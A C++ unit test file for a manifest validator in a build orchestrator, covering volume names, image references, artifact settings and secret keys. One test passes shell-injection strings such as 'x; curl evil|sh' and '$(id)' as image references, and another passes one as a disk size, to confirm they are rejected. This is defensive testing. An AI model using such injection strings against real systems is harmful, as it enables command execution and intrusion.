// SPDX-License-Identifier: Apache-2.0
#include "orchestrator/manifest/validate.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/unit/orchestrator/manifest/manifest_text.hpp"

namespace orchestrator::manifest {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

struct Rule {
  std::string spec;
  std::string message;
  std::string path;
  Position position;
};

TEST(Validate, Case214Case215Case216Case223SpeaksTheOperatorsWords) {
  const std::string iso = "\nartifacts: {iso: true}";
  const std::string options = "buildOptions: {version: v1, baseImage: a:1}";
  const Rule rows[] = {
      {"image: {ref: a:1}" + iso + "\nvolumes: [{name: \"\", emptyDir: {}}]",
       "spec.volumes[0].name must not be empty",
       "spec.volumes[0].name",
       {7, 20}},
      {"image: {ref: a:1}" + iso + "\nvolumes: [{emptyDir: {}}]",
       "spec.volumes[0].name must not be empty",
       "spec.volumes[0]",
       {7, 13}},
      {"image: {ref: a:1}" + iso + "\nvolumes: [{name: ocispec, emptyDir: {}}]",
       "volume name \"ocispec\" is reserved for internal use",
       "spec.volumes[0].name",
       {7, 20}},
      {"image: {ref: a:1}" + iso + "\nvolumes: [{name: x, emptyDir: {}}, {name: x, emptyDir: {}}]",
       "duplicate volume name \"x\" in spec.volumes",
       "spec.volumes[1].name",
       {7, 45}},
      {"image: {ref: a:1}",
       "spec.artifacts is required when spec.image.ref is set (pre-built image); specify which "
       "artifacts to produce (e.g. ISO, cloud image)",
       "spec.image.ref",
       {5, 16}},
      {"image: {ref: a:1, buildImage: {registry: r.io, repository: a, tag: b}}" + iso,
       "spec.image.buildImage is only used when building; ref must be empty when buildImage is set",
       "spec.image.buildImage",
       {5, 21}},
      {"image: {" + options + ", buildImage: {registry: r.io, repository: a}}" + iso,
       "spec.image.buildImage: when set, registry, repository, and tag are all required",
       "spec.image.buildImage",
       {5, 56}},
      {"image: {}" + iso,
       "spec.image: when ref is empty, at least one of buildOptions or ociSpec must be set",
       "spec.image",
       {5, 3}},
      {"artifacts: {iso: true}",
       "spec.image: when ref is empty, at least one of buildOptions or ociSpec must be set",
       "spec",
       {4, 1}},
      {"image: {ociSpec: {templateValues: {a: b}}}" + iso,
       "spec.image: when ref is empty, at least one of buildOptions or ociSpec must be set",
       "spec.image",
       {5, 3}},
      {"image: {" + options + ", push: true}" + iso,
       "spec.image.push is true but buildImage is missing or incomplete; when pushing, registry, "
       "repository, and tag are required",
       "spec.image.push",
       {5, 62}},
      {"image: {buildOptions: {baseImage: a:1}}" + iso,
       "spec.image.buildOptions.version is required when using buildOptions",
       "spec.image.buildOptions",
       {5, 11}},
      {"image: {buildOptions: {version: v1}}" + iso,
       "spec.image.buildOptions.baseImage is required when using buildOptions",
       "spec.image.buildOptions",
       {5, 11}},
      {"image: {ociSpec: {ref: {name: s}, buildContextVolume: nope}}" + iso,
       "spec.image.ociSpec.buildContextVolume references volume \"nope\" which is not defined in "
       "spec.volumes",
       "spec.image.ociSpec.buildContextVolume",
       {5, 57}},
      {"image: {" + options + ", caCertificatesVolume: nope}" + iso,
       "spec.image.caCertificatesVolume references volume \"nope\" which is not defined in "
       "spec.volumes",
       "spec.image.caCertificatesVolume",
       {5, 78}},
      {"image: {ref: a:1, caCertificatesVolume: nope}" + iso,
       "spec.image.caCertificatesVolume references volume \"nope\" which is not defined in "
       "spec.volumes",
       "spec.image.caCertificatesVolume",
       {5, 43}},
      {"image: {ref: a:1}\nartifacts: {arch: amd64, iso: false}",
       "spec.artifacts: at least one artifact type must be enabled (iso, cloudImage, azureImage, "
       "gceImage, netboot, or uki.iso/uki.container/uki.efi)",
       "spec.artifacts",
       {6, 3}},
      {"image: {ref: a:1}\nartifacts: {iso: true, overlayISOVolume: v}",
       "spec.artifacts.overlayISOVolume references volume \"v\" which is not defined in "
       "spec.volumes",
       "spec.artifacts.overlayISOVolume",
       {6, 44}},
      {"image: {ref: a:1}\nartifacts: {iso: true, overlayRootfsVolume: v}",
       "spec.artifacts.overlayRootfsVolume references volume \"v\" which is not defined in "
       "spec.volumes",
       "spec.artifacts.overlayRootfsVolume",
       {6, 47}},
      {"image: {ref: a:1}\nartifacts: {iso: true, volume: v}",
       "spec.artifacts.volume references volume \"v\" which is not defined in spec.volumes",
       "spec.artifacts.volume",
       {6, 34}},
      {"image: {ref: a:1}\nartifacts: {uki: {iso: true}}",
       "spec.artifacts.uki.keysVolume is required when any of uki.iso, uki.container, or uki.efi "
       "is true",
       "spec.artifacts.uki",
       {6, 15}},
      {"image: {ref: a:1}\nartifacts: {uki: {efi: true, keysVolume: \"\"}}",
       "spec.artifacts.uki.keysVolume is required when any of uki.iso, uki.container, or uki.efi "
       "is true",
       "spec.artifacts.uki.keysVolume",
       {6, 32}},
      {"image: {ref: a:1}\nartifacts: {uki: {container: true, keysVolume: k}}",
       "spec.artifacts.uki.keysVolume references volume \"k\" which is not defined in spec.volumes",
       "spec.artifacts.uki.keysVolume",
       {6, 50}},
      {"image: {ref: a:1}\nartifacts: {iso: true, arch: riscv64}",
       "arch must be either 'amd64', 'arm64', or empty",
       "spec.artifacts.arch",
       {6, 32}},
  };
  for (const auto& row : rows) {
    const auto result = load_manifest(osartifact(row.spec), "demo.yaml");

    EXPECT_THAT(messages(result), ElementsAre(row.message)) << row.spec;
    if (result.diagnostics.empty()) continue;
    EXPECT_EQ(result.diagnostics[0].path, row.path) << row.spec;
    EXPECT_EQ(result.diagnostics[0].position.line, row.position.line) << row.spec;
    EXPECT_EQ(result.diagnostics[0].position.column, row.position.column) << row.spec;
  }
}

TEST(Validate, Case211Case213RefusesShellTextWhereReferencesStand) {
  const std::string texts[] = {"x; curl evil|sh", "$(id)",       "-rm",   "a b",
                               "a\\nb",           "https://a/b", "A/B:c", "`id`"};
  for (const auto& text : texts) {
    const auto quoted = "\"" + text + "\"";
    const std::string specs[] = {
        "image: {ref: " + quoted + "}\nartifacts: {iso: true}",
        "image: {ref: a:1}\nartifacts: {iso: true, bundles: [b:1, " + quoted + "]}",
        "image: {buildOptions: {version: v, baseImage: " + quoted + "}}",
        "image: {buildOptions: {version: v, baseImage: a, kairosInitImage: " + quoted + "}}",
        "image: {buildOptions: {version: v, baseImage: a}, buildImage: {registry: r.io, "
        "repository: "
        "a, tag: " +
            quoted + "}}"};
    for (const auto& spec : specs) {
      EXPECT_THAT(messages(load_manifest(osartifact(spec), "demo.yaml")),
                  ElementsAre(HasSubstr("is not an image reference")))
          << spec;
    }
  }
}

TEST(Validate, RefusesARegistryThatWouldBeAFolderOfDockerHub) {
  const auto result = load_manifest(
      osartifact("image: {buildOptions: {version: v, baseImage: a}, buildImage: {registry: myreg, "
                 "repository: a, tag: b}}"),
      "demo.yaml");

  EXPECT_THAT(messages(result), ElementsAre("\"myreg\" is not the host of a registry"));
}

TEST(Validate, Case212TakesADiskSizeInMebibytesOnly) {
  const auto load = [](const std::string& size) {
    return load_manifest(
        osartifact("image: {ref: a:1}\nartifacts: {cloudImage: true, diskSize: \"" + size + "\"}"),
        "demo.yaml");
  };

  EXPECT_TRUE(load("16384").ok());
  for (const auto* size : {"10'; id; '", "16G", "16Gi", "0", "-1", "1.5", "99999999999999999999"}) {
    EXPECT_THAT(messages(load(size)), ElementsAre("not a size of a disk")) << size;
  }
}

TEST(Validate, Case218RefusesNamesThatAreNoFileNames) {
  const std::string spec = "image: {ref: a:1}\nartifacts: {iso: true}";
  for (const auto& name : {std::string("../x"), std::string("a/b"), std::string("Upper"),
                           std::string("-a"), std::string("\"a b\""), std::string(254, 'a')}) {
    EXPECT_THAT(messages(load_manifest(osartifact(spec, name), "demo.yaml")),
                Contains("not a name of an object"))
        << name;
  }
  EXPECT_TRUE(load_manifest(osartifact(spec, std::string(235, 'a')), "demo.yaml").ok());
  EXPECT_THAT(messages(load_manifest(osartifact(spec, std::string(236, 'a')), "demo.yaml")),
              Contains(HasSubstr("longer than 247 bytes")));
}

TEST(Validate, Case218Case220Case281RefusesOutputsOfOneName) {
  const std::string spec = "image: {ref: a:1}\nartifacts: {iso: true}";
  const auto other_namespace =
      osartifact(spec) + "---\n" + osartifact(spec, "demo, namespace: other");
  const auto suffix = osartifact(
      "image: {ref: a:1}\nnameOverride: {iso: demo-uki}\nvolumes: [{name: k, emptyDir: {}}]\n"
      "artifacts: {iso: true, uki: {iso: true, keysVolume: k}}");
  const auto override =
      osartifact(spec, "one") + "---\n" + osartifact(spec + "\nnameOverride: {iso: one}", "two");

  EXPECT_THAT(
      messages(load_manifest(other_namespace, "demo.yaml")),
      ElementsAre("\"demo.iso\" is already written for spec.artifacts.iso of default/demo"));
  EXPECT_THAT(messages(load_manifest(suffix, "demo.yaml")),
              ElementsAre("\"demo-uki.iso\" is already written for spec.artifacts.iso of "
                          "default/demo"));
  EXPECT_THAT(messages(load_manifest(override, "demo.yaml")),
              ElementsAre("\"one.iso\" is already written for spec.artifacts.iso of default/one"));
}

TEST(Validate, WarnsOfFieldsThatAPrebuiltImageIgnores) {
  const auto result = load_manifest(
      osartifact(
          "image: {ref: a:1, push: true, buildOptions: {version: v1}}\nartifacts: {iso: true}"),
      "demo.yaml");

  EXPECT_TRUE(result.ok()) << rendered(result);
  EXPECT_THAT(messages(result, Severity::kWarning),
              ElementsAre("has no effect, because spec.image.ref is set",
                          "has no effect, because spec.image.ref is set"));
}

std::string with_secret(const std::string& spec, const std::string& data,
                        const std::string& namespace_name = "default") {
  return osartifact(spec) +
         "---\napiVersion: v1\nkind: Secret\nmetadata: {name: s, namespace: " + namespace_name +
         "}\nstringData: " + data + "\n";
}

TEST(Validate, Case222NamesTheSecretAndTheKeyThatIsMissing) {
  const std::string rows[] = {
      "image: {ref: a:1, imageCredentialsSecretRef: {name: s, key: nope}}\nartifacts: {iso: true}",
      "image: {ref: a:1}\nartifacts: {iso: true, cloudConfigRef: {name: s, key: nope}}",
      "image: {ociSpec: {ref: {name: s, key: nope}}}",
      "image: {ociSpec: {ref: {name: t}, templateValuesFrom: {name: s, key: nope}}}",
      "image: {ociSpec: {ref: {name: t}}, buildEnv: [{name: A, valueFrom: {secretKeyRef: {name: s, "
      "key: nope}}}]}",
      "image: {ref: a:1}\nartifacts: {iso: true}\nvolumes: [{name: v, secret: {secretName: s, "
      "items: "
      "[{key: nope, path: p}]}}]"};
  for (const auto& spec : rows) {
    EXPECT_THAT(messages(load_manifest(with_secret(spec, "{a: b}"), "demo.yaml")),
                ElementsAre("secret \"s\" has no key \"nope\""))
        << spec;
    EXPECT_THAT(messages(load_manifest(with_secret(spec, "{a: b}", "other"), "demo.yaml")),
                IsEmpty())
        << spec;
  }
}

TEST(Validate, KnowsTheDefaultKeysOfSecrets) {
  const std::string credentials =
      "image: {ref: a:1, imageCredentialsSecretRef: {name: s}}\nartifacts: {iso: true}";

  EXPECT_THAT(messages(load_manifest(with_secret(credentials, "{a: b}"), "demo.yaml")),
              ElementsAre("secret \"s\" has no key \".dockerconfigjson\""));
  EXPECT_TRUE(load_manifest(with_secret(credentials, "{.dockerconfigjson: '{}'}"), "d").ok());
  EXPECT_TRUE(load_manifest(with_secret(credentials, "{.dockercfg: '{}'}"), "d").ok());
  EXPECT_THAT(messages(load_manifest(with_secret("image: {ociSpec: {ref: {name: s}}}", "{a: b}"),
                                     "demo.yaml")),
              ElementsAre("secret \"s\" has no key \"ociSpec\""));
}

TEST(Validate, Case221LooksAtTheCloudConfigBesideIt) {
  const std::string spec = "image: {ref: a:1}\nartifacts: {iso: true, cloudConfigRef: {name: s}}";

  EXPECT_TRUE(load_manifest(with_secret(spec, "{c: \"#cloud-config\\na: 1\"}"), "d").ok());
  EXPECT_THAT(messages(load_manifest(with_secret(spec, "{c: \"a: 1\"}"), "d")),
              ElementsAre("key \"c\" of secret \"s\" is not a cloud-config: line 1: it does not "
                          "begin with #cloud-config"));
  EXPECT_THAT(messages(load_manifest(with_secret(spec, "{c: x, d: y}"), "d")),
              ElementsAre("secret \"s\" has 2 keys and none is named"));
}

}  // namespace
}  // namespace orchestrator::manifest
